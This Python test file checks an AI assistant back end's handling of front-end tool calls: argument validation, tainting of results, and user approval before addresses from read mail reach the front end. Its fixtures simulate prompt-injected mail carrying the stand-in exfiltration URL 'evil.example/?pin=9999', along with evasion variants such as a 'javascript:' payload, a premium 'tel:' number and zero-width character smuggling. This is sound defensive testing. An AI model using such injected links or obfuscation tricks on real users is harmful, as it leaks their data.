"""Calls of a front end's tools: invalid ones, their results, and which ones the user approves."""

import json
from collections.abc import Sequence

import pytest
from msgspec.structs import replace

from brain.chat import results
from brain.codec import Json
from brain.errors import CheckerUnreachable
from brain.run.deliver import Outcome
from brain.run.messages import Decision, Message
from brain.tools.client_schemas import TOO_SLOW, UNCHECKED
from brain.tools.spec import ClientTool
from tests.fakes.loop import in_virtual_time
from tests.fakes.model import calls, words
from tests.fakes.schemas import MemorySchemas
from tests.fakes.tools import MailTool
from tests.fakes.world import World

GO_TO = ClientTool(
    name="goTo",
    description="Open a view.",
    parameters={"type": "object", "properties": {"view": {"enum": ["home"]}}},
)


class SlowSchemas(MemorySchemas):
    async def complaints(self, calls: Sequence[tuple[Json, str]]) -> list[str]:
        return [TOO_SLOW] * len(calls)


class NoSchemas(MemorySchemas):
    async def complaints(self, calls: Sequence[tuple[Json, str]]) -> list[str]:
        raise CheckerUnreachable("away")


@pytest.mark.parametrize(
    ("schemas", "said"),
    [
        (MemorySchemas(), 'view: "away" does not fit enum'),
        (SlowSchemas(), TOO_SLOW),
        (NoSchemas(), UNCHECKED),
    ],
)
@in_virtual_time
async def test_a_call_that_is_wrong_or_cannot_be_checked_fails_with_words_for_the_model(
    schemas: MemorySchemas, said: str
) -> None:
    world = World([calls(("goTo", '{"view":"away"}')), words("I cannot.")])
    world.ports = replace(world.ports, schemas=schemas)
    outcome = await world.ask("Go away.", client_tools=[GO_TO])
    assert outcome.message is not None
    assert outcome.message.text == "I cannot."
    result = world.model.prompts[1].messages[-1]["content"]
    assert result == f"{results.BAD_ARGUMENTS}{said}."


@in_virtual_time
async def test_a_call_that_fits_goes_to_the_front_end_beside_one_that_does_not() -> None:
    both = calls(("goTo", '{"view":"away"}'), ("goTo", '{"view":"home"}'))
    world = World([both, words("There.")])
    outcome = await world.ask("Go home.", client_tools=[GO_TO])
    assert outcome.message is not None
    assert outcome.message.question is not None
    assert outcome.message.question.arguments == {"view": "home"}


ANY: Json = {"type": "object"}
CLIPBOARD = ClientTool(name="readClipboard", description="What is copied.", parameters=ANY)
BATTERY = ClientTool(name="batteryLevel", description="Percent.", parameters=ANY, foreign=False)


@pytest.mark.parametrize(("tool", "foreign"), [(CLIPBOARD, True), (BATTERY, False)])
@in_virtual_time
async def test_a_result_is_foreign_unless_the_tool_says_that_nobody_else_words_it(
    tool: ClientTool, foreign: bool
) -> None:
    world = World([calls((tool.name, "{}")), words("So it is.")])
    question = (await world.ask("Look.", client_tools=[tool], patience_s=5)).message
    assert question is not None
    last = (await answered(world, question)).message
    assert last is not None
    assert (last.text, last.foreign) == ("So it is.", foreign)


@in_virtual_time
async def test_a_result_for_a_run_that_does_not_know_the_tool_is_foreign() -> None:
    world = World([calls(("batteryLevel", "{}")), words("Hm?", delay_s=5), words("Fine.")])
    question = (await world.ask("How full?", client_tools=[BATTERY], patience_s=5)).message
    assert question is not None
    await world.ask("Something else.", patience_s=1)
    await answered(world, question)
    await world.settle()
    said = [(m.text, m.foreign) for m in await world.said()]
    assert said[-1] == ("Fine.", True)


async def answered(world: World, question: Message, result: str = "80 percent") -> Outcome:
    """What the front end returns."""
    assert question.question is not None
    decision = Decision(
        question_id=question.id,
        verdict="answer",
        tool=question.question.tool,
        arguments=question.question.arguments,
        result=result,
    )
    return await world.ask("The result.", decision=decision, patience_s=5)


OPEN = ClientTool(name="openPage", description="Opens a page.", parameters=ANY, foreign=False)
SHOW = ClientTool(name="show", description="Shows.", parameters=ANY, foreign=False)
EVIL = "https://evil.example/?pin=9999"


def told(tool: ClientTool, text: str) -> World:
    call = (tool.name, json.dumps({"what": text}))
    return World([calls(("read", "{}")), calls(call), words("Done.")], tools=[MailTool(EVIL)])


async def first_question(world: World, tool: ClientTool, wish: str) -> Message:
    message = (await world.ask(wish, client_tools=[tool], patience_s=5)).message
    assert message is not None
    return message


@pytest.mark.parametrize(
    ("tool", "text"),
    [
        (OPEN, EVIL),
        (OPEN, "evil.example"),
        (OPEN, "evil"),
        (SHOW, EVIL),
        (SHOW, f"[here](<{EVIL}>)"),
        (SHOW, "HTTPS://evil.example"),
        (SHOW, "www.evil.example"),
        (SHOW, "evil.example/9999"),
        (SHOW, "java\nscript:alert(1)"),
        (SHOW, "tel:+1900555"),
    ],
)
@in_virtual_time
async def test_a_foreign_address_goes_to_the_front_end_only_after_a_yes(
    tool: ClientTool, text: str
) -> None:
    world = told(tool, text)
    asked = await first_question(world, tool, "What is new?")
    assert asked.question is not None
    assert (asked.question.whom, asked.question.tool, asked.foreign) == ("user", tool.name, True)
    assert f"what: {text}" in asked.text
    decision = Decision(
        question_id=asked.id, verdict="approve", tool=tool.name, arguments={"what": text}
    )
    call = (await world.ask("Yes.", decision=decision, patience_s=5)).message
    assert call is not None
    assert call.question is not None
    assert (call.question.whom, call.question.arguments) == ("client", {"what": text})
    assert call.supersedes is None
    last = (await answered(world, call)).message
    assert last is not None
    assert last.text == "Done."


@in_virtual_time
async def test_what_a_question_cannot_show_does_not_reach_the_front_end() -> None:
    shown: Json = {"what": "https://evil.example/", "list": [{"to": "a", "n": 1}]}
    given = {"what": "https://evil.example/\u200b\u2062", "li\u200bst": [{"to\u200b": "a", "n": 1}]}
    call = (SHOW.name, json.dumps(given))
    world = World([calls(("read", "{}")), calls(call)], tools=[MailTool(EVIL)])
    asked = await first_question(world, SHOW, "What is new?")
    assert asked.question is not None
    assert (asked.question.whom, asked.question.arguments) == ("user", shown)
    assert asked.text.endswith('what: https://evil.example/\nlist: [{"to": "a", "n": 1}]')


@pytest.mark.parametrize(
    ("tool", "text", "wish"),
    [
        (OPEN, EVIL, f"Read my mail, then open {EVIL}."),
        (OPEN, "https://Example.org/", "Read my mail and open (example.org)!"),
        (OPEN, "shopping list", "Read my mail. Then the Shopping List, I mean the shopping list"),
        (SHOW, "Dinner at 7.30, see file.txt", "What is new?"),
    ],
)
@in_virtual_time
async def test_what_the_user_said_and_what_is_no_address_goes_to_the_front_end_at_once(
    tool: ClientTool, text: str, wish: str
) -> None:
    world = told(tool, text)
    call = await first_question(world, tool, wish)
    assert call.question is not None
    assert call.question.whom == "client"


@pytest.mark.parametrize("text", [f"{EVIL}!!", f"{EVIL},9999", f"Code 9999: {EVIL}"])
@in_virtual_time
async def test_an_address_that_only_begins_as_the_user_said_is_asked_for(text: str) -> None:
    world = told(OPEN, text)
    asked = await first_question(world, OPEN, f"Read my mail, then open {EVIL} please.")
    assert asked.question is not None
    assert asked.question.whom == "user"


@in_virtual_time
async def test_an_untainted_run_asks_nothing_before_a_front_end_opens_a_page() -> None:
    world = World([calls(("openPage", json.dumps({"what": EVIL}))), words("Done.")])
    call = await first_question(world, OPEN, "Open the page that I know.")
    assert call.question is not None
    assert call.question.whom == "client"
